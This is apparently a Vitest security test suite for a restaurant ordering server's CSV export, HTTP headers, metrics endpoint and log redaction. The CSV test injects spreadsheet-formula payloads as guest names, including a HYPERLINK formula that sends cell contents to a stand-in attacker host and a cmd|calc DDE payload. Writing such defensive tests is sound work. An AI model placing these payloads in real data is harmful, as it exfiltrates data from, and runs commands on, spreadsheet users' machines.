import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createFixture, startServer, type Fixture, type Server } from '../src/test/harness.ts';
import { dataOf, mutate, query, signIn } from './support.ts';

/** What the server hands out or writes down that it should not: formulas, headers, logs. */
let fx: Fixture;
let server: Server;
let manager: string;
const logged: string[] = [];

beforeAll(async () => {
  fx = await createFixture();
  server = await startServer(fx.db, {
    logger: { level: 'info', stream: { write: (line: string) => void logged.push(line) } },
  });
  manager = await signIn(server, 'manager@demo.test');
});
afterAll(async () => {
  await server.close();
  await fx.db.close();
});

describe("attack: a guest's name that runs in the manager's spreadsheet", () => {
  test('exported CSV cells cannot start a formula', async () => {
    const names = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', '+1+cmd|calc', '@SUM(1)'];
    for (const name of names) {
      await mutate(server, 'order.place', fx.order({ customer: { name } }));
    }
    // The store's business day, whatever the hour in UTC: yesterday to tomorrow covers it.
    const day = (offset: number) => new Date(Date.now() + offset).toISOString().slice(0, 10);
    const response = await fetch(
      `http://${server.url}/exports/orders.csv?from=${day(-86_400_000)}&to=${day(86_400_000)}`,
      { headers: { authorization: `Bearer ${manager}` } },
    );
    const csv = await response.text();
    expect(response.status).toBe(200);
    const cells = csv.split(/[\n,]/).map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+@-]/.test(cell) && !/^-?\d/.test(cell))).toEqual([]);
    expect(csv).toContain('HYPERLINK'); // still there, as text
  });
});

describe('attack: framing, sniffing and leaking the tracking link', () => {
  test('every answer carries the security headers', async () => {
    for (const path of [
      '/healthz',
      '/trpc/menu.forStore?input=%7B%22storeSlug%22%3A%22demo%22%7D',
      '/nowhere',
    ]) {
      const response = await fetch(`http://${server.url}${path}`);
      const csp = response.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(csp, path).toContain("default-src 'self'");
      expect(response.headers.get('referrer-policy'), path).toBe('no-referrer');
      expect(response.headers.get('x-content-type-options'), path).toBe('nosniff');
    }
  });
});

describe('attack: reading the store from its metrics', () => {
  test('a production server without METRICS_TOKEN serves no metrics', async () => {
    const production = await startServer(fx.db, { jobs: false, production: true });
    try {
      const response = await fetch(`http://${production.url}/metrics`);
      expect(response.status).toBe(403);
      expect(await response.text()).not.toContain('kds_');
    } finally {
      await production.close();
    }
  });
});

describe('attack: reading secrets and guests out of the logs', () => {
  test('no token, phone number, email or query string reaches the log', async () => {
    const phone = '+15550004242';
    const email = 'grace@example.org';
    const placed = dataOf<{ trackingToken: string }>(
      await mutate(
        server,
        'order.place',
        fx.order({
          customer: { name: 'Grace', phone, email, smsConsent: true, emailConsent: true },
        }),
      ),
    );
    await fetch(`http://${server.url}/track/${placed.trackingToken}?from=qr`);
    await query(server, 'privacy.customerData', { phone }, { token: manager });
    await query(server, 'tracker.get', { trackingToken: placed.trackingToken });
    // A database error whose parameters carry the guest's details.
    await mutate(
      server,
      'order.place',
      fx.order({ customer: { name: 'Nul\u0000Byte', phone, email } }),
    );
    await server.app.jobs.runOnce();

    const log = logged.join('');
    expect(log.length).toBeGreaterThan(0);
    for (const secret of [
      placed.trackingToken,
      phone,
      '5550004242',
      email,
      manager,
      '?input=',
      '?from=',
    ]) {
      expect(log, secret).not.toContain(secret);
    }
  });
});
